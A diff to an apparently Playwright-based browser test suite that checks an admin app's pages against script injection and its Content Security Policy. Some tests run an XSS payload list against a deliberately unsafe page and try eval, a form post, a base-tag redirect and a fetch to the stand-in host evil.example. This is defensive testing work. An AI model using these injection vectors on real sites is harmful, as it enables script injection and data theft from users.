@@ -69,13 +69,22 @@ test("no text of anybody becomes script or markup, on any page", async () => {
   const forms = [
     ["keys", "Keys", 1], ["keys/new", "New key", 7], [`keys/${made.live}/edit`, "Edit key", 7], [`keys/${made.live}`, "live", 1],
     [`keys/${made.live}/try`, "Try it", 1], ["keys/import", "Import keys", 3], ["members", "Members", 1], ["limits", "Limits", 4],
-    ["policy", "Policy", 1], ["alerts", "Alerts", 1], ["denials", "Denials", 2],
+    ["policy", "Policy", 1], ["alerts", "Alerts", 1], ["denials", "Denials", 2], ["explain", "Explain", 3],
   ];
   for (const [path, heading, least] of forms) {
     await visit(page, path, heading);
     const count = await page.evaluate(fillAll, PAYLOADS);
     assert.ok(count >= least, `${path} has ${count} fields of text`);
     assert.equal(await page.evaluate(markup), 0, path);
+  }
+  // What is asked about comes back in the answer.
+  await visit(page, "explain", "Explain");
+  for (const text of PAYLOADS.slice(0, 10)) {
+    await page.getByLabel("URL").fill(`https://api.test/v1/agents?${text}`);
+    await page.getByLabel("Client address").fill(text);
+    await page.getByRole("button", { name: "Explain" }).click();
+    await page.getByRole("region", { name: "Checks" }).or(page.getByRole("alert")).waitFor();
+    assert.equal(await page.evaluate(markup), 0, text);
   }
   await visit(page, "denials", "Denials");
   await page.getByLabel("The refusal").fill(JSON.stringify({ signed: PAYLOADS.map((part) => ({ part, sha256: "0".repeat(64) })) }));
@@ -109,7 +118,9 @@ function fillAll(texts) {
 }
 
 test("the same texts do harm where a page takes them for markup", async () => {
-  const { page, context, told } = await open(browser);
+  // Chromium may fall over them while it closes their page: it is no other test's.
+  const own = await launch();
+  const { page, told } = await open(own);
   await page.goto(evilUrl());
   await page.evaluate((texts) => {
     for (const text of texts) {
@@ -119,7 +130,7 @@ test("the same texts do harm where a page takes them for markup", async () => {
     }
   }, PAYLOADS);
   await until("most of them run", () => told.dialogs.length >= 20);
-  await context.close();
+  await own.close();
 });
 
 test("a script that is injected all the same is refused and told of", async () => {
@@ -142,6 +153,46 @@ test("a script that is injected all the same is refused and told of", async () =
   assert.equal(await page.evaluate(() => window.ran), undefined);
   const kinds = new Set(told.violations.map((text) => text.split(" ")[0]));
   assert.ok(kinds.has("require-trusted-types-for") && kinds.has("img-src"), [...kinds].join(", "));
+  await context.close();
+});
+
+test("Wasm of this host runs, and no text does", async () => {
+  const { page, context, told } = await open(browser);
+  await page.goto(ready.admin_url);
+  const ran = await page.evaluate(async () => {
+    // Where a debugger begins, it may evaluate texts.
+    await new Promise((resolve) => setTimeout(resolve));
+    const attempts = {
+      eval: () => eval("1"),
+      Function: () => new Function("return 1")(),
+      elsewhere: () => fetch("https://evil.example/x.wasm"),
+      data: () => fetch("data:application/wasm;base64,AGFzbQEAAAA="),
+    };
+    const done = [];
+    for (const [name, attempt] of Object.entries(attempts)) {
+      await (async () => attempt())().then(() => done.push(name), () => {});
+    }
+    await WebAssembly.compile(Uint8Array.of(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0)).then(() => done.push("wasm"), () => {});
+    const base = document.createElement("base");
+    base.href = "https://evil.example/";
+    document.head.append(base);
+    if (new URL("x", document.baseURI).host === "evil.example") done.push("base");
+    const style = document.createElement("style");
+    style.textContent = "body { color: rgb(1, 2, 3) }";
+    document.head.append(style);
+    if (getComputedStyle(document.body).color === "rgb(1, 2, 3)") done.push("style");
+    const form = document.createElement("form");
+    form.action = "https://evil.example/";
+    document.body.append(form);
+    form.submit();
+    return done;
+  });
+  assert.deepEqual(ran, ["wasm"]);
+  const kinds = () => new Set(told.violations.map((text) => text.split(" ")[0]));
+  const expected = ["require-trusted-types-for", "connect-src", "base-uri", "style-src-elem", "form-action"];
+  await until("all of it is told of", () => expected.every((kind) => kinds().has(kind)), 3000).catch((error) => {
+    throw new Error(`${error.message}: ${[...kinds()].join(", ")}`);
+  });
   await context.close();
 });
 
